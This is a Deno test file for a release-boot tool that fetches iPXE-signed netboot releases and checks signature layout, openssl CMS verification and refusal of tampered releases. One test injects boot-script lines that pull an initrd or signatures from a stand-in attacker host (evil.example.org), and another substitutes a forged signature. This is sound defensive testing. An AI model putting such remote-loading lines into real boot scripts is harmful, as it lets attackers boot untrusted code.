/**
 * `fetch` of a release signed for iPXE, published by release-boot or crafted in the emulator
 * as the release side lays it out (docs/PXE.md, "Verified boot"): the boot directory serves
 * the release's own signed script unchanged as netboot.ipxe, each signature beside the file it
 * signs, and refuses a signed script that loads from elsewhere, a signature that does not
 * match SHA256SUMS and a signed release missing a signature.
 */
import assert from "node:assert/strict";
import * as fs from "node:fs/promises";
import * as path from "node:path";
import { checkSignedScript } from "../scripts/lib/ipxe.ts";
import { type Release } from "../types/forgejo.ts";
import {
  checkSigningIdentity,
  type IpxeSigningIdentity,
  signDigest,
} from "../scripts/lib/ipxe_sign.ts";
import { makeCa, makeCodeSigning } from "./boot/pki.ts";
import { api, assertOneLineFailure, listing } from "./boot_dir_helpers.ts";
import { sha256, type World, world } from "./forgejo_world.ts";
import { nixTest } from "./nix_helpers.ts";
import { runCommand, sha256sumCheck } from "./run_helpers.ts";
import { type Keys, makeKeys, sshSign } from "./signing_helpers.ts";

const KERNEL = "netboot-x86_64-linux.bzImage";
const INITRD = "netboot-x86_64-linux.initrd";
const BUILT = "netboot-x86_64-linux.built.ipxe";
const URL_SCRIPT = "netboot-x86_64-linux.ipxe";
const DIR_SCRIPT = "netboot-x86_64-linux.dir.ipxe";
const SYSTEM_PATH = "/nix/store/0000000000000000000000000000000b-nixos-system-runner";
const KERNEL_LINE = `init=${SYSTEM_PATH}/init initrd=${INITRD} nohibernate loglevel=4 \${cmdline}`;

/** What fetch lays out for the netboot target of a release signed for iPXE. */
const LAID_OUT = [
  ".release-boot-tag",
  "SHA256SUMS",
  BUILT,
  KERNEL,
  `${KERNEL}.sig`,
  INITRD,
  `${INITRD}.sig`,
  URL_SCRIPT,
  `${URL_SCRIPT}.sig`,
  "netboot.ipxe",
  "netboot.ipxe.sig",
].sort();

/** The boot directory's script in the form the release side signs. */
function dirScript(extra = ""): string {
  return `#!ipxe
set checking ${KERNEL}
kernel ${KERNEL} ${KERNEL_LINE} || goto refused
imgverify ${KERNEL} ${KERNEL}.sig || goto refused
set checking ${INITRD}
initrd ${INITRD} || goto refused
imgverify ${INITRD} ${INITRD}.sig || goto refused
${extra}boot || goto refused
:refused
echo Not booting: \${checking} failed to load or verify
exit 1
`;
}

interface Crafted {
  /** The release's directory script, as its bytes. */
  script?: string;
  /** Files whose `.sig` the release leaves out (SHA256SUMS included). */
  unsigned?: string[];
  /** Whether manifest.json lists the signatures and the directory script too. */
  manifestListsAll?: boolean;
}

/** The scene: a world, the SSH release key, the iPXE signing identity, a scratch DIR. */
interface Scene {
  w: World;
  keys: Keys;
  ipxe: IpxeSigningIdentity;
  caFile: string;
  /** The same identity as files, for --ipxe-signing-key and --ipxe-signing-cert. */
  signing: { keyFile: string; chainFile: string };
  out: string;
}

async function signedScene(test: (scene: Scene) => Promise<void>): Promise<void> {
  const w = await world();
  const keys = await makeKeys();
  try {
    const pki = path.join(keys.dir, "pki");
    await fs.mkdir(pki);
    const ca = await makeCa(pki, "Runner boot CA");
    const signer = await makeCodeSigning(pki, "Runner boot signing", ca);
    const ipxe = checkSigningIdentity(signer.key, signer.cert + ca.cert, new Date());
    const chainFile = path.join(pki, "ipxe-signing.crt");
    await fs.writeFile(chainFile, signer.cert + ca.cert);
    const signing = { keyFile: signer.keyFile, chainFile };
    const out = path.join(keys.dir, "pxe");
    await test({ w, keys, ipxe, caFile: ca.certFile, signing, out });
  } finally {
    await w.close();
    await fs.rm(keys.dir, { recursive: true, force: true });
  }
}

/**
 * Publishes under `tag` a release as release-boot signs it for iPXE: the netboot files, the
 * three scripts, a `.sig` from each booted file's digest, manifest.json, SHA256SUMS listing
 * all of them and its SSH signature. Returns the release's id.
 */
async function publishSigned(scene: Scene, tag: string, crafted: Crafted = {}): Promise<number> {
  const text = (s: string) => new TextEncoder().encode(s);
  const base = `${scene.w.forgejo.url}/ops/runners/releases/download/${tag}/`;
  const files: Record<string, Uint8Array> = {
    [KERNEL]: text(`kernel of ${tag}\n`),
    [INITRD]: text(`initrd of ${tag}\n`),
    [BUILT]: text(
      `#!ipxe\nkernel bzImage ${KERNEL_LINE.replace(INITRD, "initrd")}\ninitrd initrd\nboot\n`,
    ),
    [URL_SCRIPT]: text(
      dirScript().replaceAll(`${KERNEL} `, `${base}${KERNEL} `)
        .replace(`initrd ${INITRD} `, `initrd ${base}${INITRD} `)
        .replaceAll(`${KERNEL}.sig`, `${base}${KERNEL}.sig`)
        .replaceAll(`${INITRD}.sig`, `${base}${INITRD}.sig`),
    ),
    [DIR_SCRIPT]: text(crafted.script ?? dirScript()),
  };
  const stored = { [KERNEL]: "bzImage", [INITRD]: "initrd", [BUILT]: "netboot.ipxe" };
  for (const name of [KERNEL, INITRD, URL_SCRIPT, DIR_SCRIPT]) {
    if (crafted.unsigned?.includes(name)) continue;
    files[`${name}.sig`] = signDigest(scene.ipxe, sha256(files[name]));
  }
  const assets = Object.entries(files)
    .filter(([name]) => crafted.manifestListsAll || !(name.endsWith(".sig") || name === DIR_SCRIPT))
    .map(([name, bytes]) => ({
      name,
      size: bytes.length,
      sha256: sha256(bytes),
      target: "netboot",
      system: "x86_64-linux",
      storePath: `/nix/store/0000000000000000000000000000000a-netboot/${
        stored[name as keyof typeof stored] ?? name
      }`,
      drvPath: "/nix/store/0000000000000000000000000000000c-netboot.drv",
    }));
  files["manifest.json"] = text(JSON.stringify({
    schema: 1,
    tag,
    commit: scene.w.work.commit,
    flake: { ref: "path:.", url: "path:.", locked: true, dirty: false, inputs: {} },
    nixVersion: "2.8.0",
    createdAt: new Date().toISOString(),
    assets,
  }));
  const sums = text(
    Object.entries(files).sort(([a], [b]) => a < b ? -1 : 1)
      .map(([name, bytes]) => `${sha256(bytes)}  ${name}\n`).join(""),
  );
  files["SHA256SUMS"] = sums;
  files["SHA256SUMS.sig"] = await sshSign(scene.keys, sums);
  const release = await api(
    scene.w,
    "POST",
    "/releases",
    JSON.stringify({ tag_name: tag, target_commitish: scene.w.work.commit, name: tag }),
  );
  for (const [name, bytes] of Object.entries(files)) {
    const query = new URLSearchParams({ name });
    const body = new Uint8Array(bytes);
    await api(scene.w, "POST", `/releases/${release.id}/assets?${query}`, body, false);
  }
  return release.id;
}

function fetchTrusting(scene: Scene, tag: string) {
  return scene.w.fetch(scene.out, ["--tag", tag, "--trust", scene.keys.allowedSigners]);
}

async function cmsVerify(dir: string, file: string, caFile: string) {
  return await runCommand(
    "openssl",
    [
      ...["cms", "-verify", "-binary", "-inform", "DER", "-in", `${file}.sig`],
      ...["-content", file, "-CAfile", caFile, "-purpose", "any", "-out", "/dev/null"],
    ].map((arg) => arg === `${file}.sig` || arg === file ? path.join(dir, arg) : arg),
  );
}

Deno.test("a release signed for iPXE is laid out with its own script unchanged as netboot.ipxe and every signature beside its file", () =>
  signedScene(async (scene) => {
    await publishSigned(scene, "boot-v1");
    const run = await fetchTrusting(scene, "boot-v1");
    assert.equal(run.code, 0, run.stderr);
    const dir = path.join(scene.out, "current");
    assert.deepEqual((await fs.readdir(dir)).sort(), LAID_OUT);
    assert.equal(await fs.readFile(path.join(dir, "netboot.ipxe"), "utf8"), dirScript());
    const sums = await fs.readFile(path.join(dir, "SHA256SUMS"), "utf8");
    assert.deepEqual(
      sums.trim().split("\n").map((line) => line.split("  ")[1]),
      (await fs.readdir(dir)).filter((name) => !name.startsWith(".") && name !== "SHA256SUMS")
        .sort(),
      "the directory's SHA256SUMS lists every file it serves",
    );
    assert.equal((await sha256sumCheck(dir)).code, 0);
    // Each file verifies against the signature beside it, netboot.ipxe included.
    for (const name of [KERNEL, INITRD, URL_SCRIPT, "netboot.ipxe"]) {
      const verified = await cmsVerify(dir, name, scene.caFile);
      assert.equal(verified.code, 0, `${name}: ${verified.stderr}`);
    }
    assert.match(
      run.stderr,
      /netboot\.ipxe: the release's signed script, unchanged, verified by iPXE against netboot\.ipxe\.sig/,
    );

    // A manifest.json listing the signatures and the directory's script gives the same layout;
    // so does a fetch without --trust.
    await publishSigned(scene, "boot-v2", { manifestListsAll: true });
    const listed = await fetchTrusting(scene, "boot-v2");
    assert.equal(listed.code, 0, listed.stderr);
    const untrusted = await scene.w.fetch(scene.out, ["--tag", "boot-v1"]);
    assert.equal(untrusted.code, 0, untrusted.stderr);
    for (const tag of ["boot-v1", "boot-v2"]) {
      const laidOut = (await fs.readdir(path.join(scene.out, tag))).sort();
      assert.deepEqual(laidOut, (await fs.readdir(dir)).sort(), tag);
    }
  }));

nixTest(
  "a release that release-boot signs for iPXE is fetched into the same layout, every signature verifying",
  () =>
    signedScene(async (scene) => {
      const published = await scene.w.publish(
        [
          ...["--targets", "netboot"],
          ...["--ipxe-signing-key", scene.signing.keyFile],
          ...["--ipxe-signing-cert", scene.signing.chainFile],
        ],
        { RELEASE_BOOT_SIGNING_KEY: scene.keys.keyText },
      );
      assert.equal(published.code, 0, published.stderr);
      const run = await fetchTrusting(scene, "boot-v1.0.0");
      assert.equal(run.code, 0, run.stderr);
      const dir = path.join(scene.out, "current");
      assert.deepEqual((await fs.readdir(dir)).sort(), LAID_OUT);
      const [script] = await scene.w.forgejo.assetBytes(scene.w.release().id, DIR_SCRIPT);
      assert.deepEqual(
        new Uint8Array(await fs.readFile(path.join(dir, "netboot.ipxe"))),
        new Uint8Array(script),
        "netboot.ipxe is the release's .dir.ipxe, byte for byte",
      );
      assert.equal((await sha256sumCheck(dir)).code, 0);
      for (const name of [KERNEL, INITRD, URL_SCRIPT, "netboot.ipxe"]) {
        const verified = await cmsVerify(dir, name, scene.caFile);
        assert.equal(verified.code, 0, `${name}: ${verified.stderr}`);
      }
    }),
);

Deno.test("a signed script may name the directory's files URI-encoded, as iPXE fetches them", () => {
  const files = new Set(["a+b.bzImage", "a+b.bzImage.sig", "a+b.initrd", "a+b.initrd.sig"]);
  const script = [
    "#!ipxe",
    "kernel a%2Bb.bzImage initrd=a+b.initrd || goto refused",
    "imgverify a+b.bzImage a%2Bb.bzImage.sig || goto refused",
    "initrd a%2Bb.initrd || goto refused",
    "imgverify a+b.initrd a%2Bb.initrd.sig || goto refused",
    "boot || goto refused",
    "",
  ].join("\n");
  assert.deepEqual(checkSignedScript("x.dir.ipxe", script, files, "v1"), [
    "a+b.bzImage",
    "a+b.initrd",
  ]);
  const elsewhere = script.replace("a%2Bb.initrd.sig", "a%2Bc.sig");
  assert.throws(
    () => checkSignedScript("x.dir.ipxe", elsewhere, files, "v1"),
    /^Error: x\.dir\.ipxe of v1, line 5 \("imgverify a\+b\.initrd a%2Bc\.sig \|\| goto refused"\), loads from outside v1/,
  );
});

Deno.test("a signed script that loads or verifies against anything but the directory's own files is refused, naming the line", (t) =>
  signedScene(async (scene) => {
    const loads = [
      "initrd https://evil.example.org/extra.cpio",
      `imgverify ${INITRD} https://evil.example.org/initrd.sig`,
      `imgverify https://evil.example.org/initrd ${INITRD}.sig`,
      `chain ${URL_SCRIPT}`,
      `imgfetch ${BUILT}`,
    ];
    for (const [n, load] of loads.entries()) {
      await t.step(load, async () => {
        const tag = `boot-v${n + 1}`;
        await publishSigned(scene, tag, { script: dirScript(`${load}\n`) });
        const run = await fetchTrusting(scene, tag);
        const escaped = load.replace(/[.*+?^${}()|[\]\\/]/g, "\\$&");
        assertOneLineFailure(
          run,
          new RegExp(
            `^release-boot: ${
              DIR_SCRIPT.replaceAll(".", "\\.")
            } of ${tag}, line 8 \\("${escaped}"\\), loads from outside ${tag}: refusing to serve a script that loads anything but the release's own files; nothing was changed$`,
          ),
        );
        assert.deepEqual(await listing(scene.out), [], "nothing was written under DIR");
      });
    }
  }));

Deno.test("a signature that does not match SHA256SUMS is refused before any image is downloaded; current stays where it was", (t) =>
  signedScene(async (scene) => {
    await publishSigned(scene, "boot-v1");
    assert.equal((await fetchTrusting(scene, "boot-v1")).code, 0);
    const before = await listing(path.join(scene.out, "boot-v1"));
    for (const [n, signed] of [KERNEL, DIR_SCRIPT].entries()) {
      await t.step(`${signed}.sig`, async () => {
        const tag = `boot-v${n + 2}`;
        const release = await publishSigned(scene, tag);
        // A valid signature of something else: same CA, other bytes.
        const other = signDigest(scene.ipxe, sha256(new TextEncoder().encode("another kernel")));
        await scene.w.forgejo.tamper(release, `${signed}.sig`, other);
        // The bad signature is slow to come, so that lanes free for other work find images
        // next in line, were images queued behind the signatures.
        const assets = (scene.w.forgejo.releases() as Release[])
          .find((r) => r.id === release)?.assets ?? [];
        const uuid = (name: string) => assets.find((asset) => asset.name === name)?.uuid;
        scene.w.forgejo.addFault({
          method: "GET",
          path: `/attachments/${uuid(`${signed}.sig`)}`,
          fault: { kind: "trickle", bytesPerSecond: 5000 },
        });
        const run = await fetchTrusting(scene, tag);
        const images = [KERNEL, INITRD].map((name) => `/attachments/${uuid(name)}`);
        assert.deepEqual(
          scene.w.forgejo.requests.filter((r) => images.includes(r.path)).map((r) => r.path),
          [],
          "no image was asked for",
        );
        assertOneLineFailure(
          run,
          new RegExp(
            `^release-boot: ${
              signed.replaceAll(".", "\\.")
            }\\.sig does not match SHA256SUMS \\(expected [0-9a-f]{64}, got [0-9a-f]{64} for \\d+ bytes\\); the download was deleted`,
          ),
        );
        assert.equal(await fs.readlink(path.join(scene.out, "current")), "boot-v1");
        assert.deepEqual(await listing(path.join(scene.out, "boot-v1")), before);
        const started = await fs.readdir(path.join(scene.out, tag));
        // Signatures download three at a time: another signature's part may be kept to resume.
        for (const name of started) {
          assert.ok(
            name.endsWith(".sig") || /\.sig\.[0-9a-f]{16}\.part$/.test(name) ||
              name.startsWith("."),
            `${tag} holds ${name}`,
          );
        }
        assert.ok(!started.includes("netboot.ipxe"), "no script is served from it");
      });
    }
  }));

Deno.test("a release signed for iPXE that lacks a signature for its script or a file it boots is refused before anything is written", (t) =>
  signedScene(async (scene) => {
    for (const [n, name] of [INITRD, KERNEL, DIR_SCRIPT].entries()) {
      await t.step(`no ${name}.sig`, async () => {
        const tag = `boot-v${n + 1}`;
        await publishSigned(scene, tag, { unsigned: [name] });
        const run = await fetchTrusting(scene, tag);
        assertOneLineFailure(
          run,
          new RegExp(
            `^release-boot: ${tag} is signed for iPXE \\(its SHA256SUMS lists netboot-x86_64-linux\\.dir\\.ipxe\\) but has no ${
              name.replaceAll(".", "\\.")
            }\\.sig, so a trusted iPXE refuses to boot it: refusing it; nothing was changed: publish the release again with the iPXE signing key$`,
          ),
        );
        assert.deepEqual(await listing(scene.out), [], "nothing was written under DIR");
      });
    }
  }));
